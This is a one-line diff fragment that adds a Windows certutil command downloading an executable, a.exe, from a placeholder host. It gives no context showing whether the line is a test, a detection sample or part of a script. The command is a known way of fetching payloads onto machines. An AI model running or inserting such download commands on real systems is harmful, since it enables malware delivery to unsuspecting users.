@@ -1,0 +1,1 @@
+certutil -urlcache -split -f http://x.example.org/a a.exe
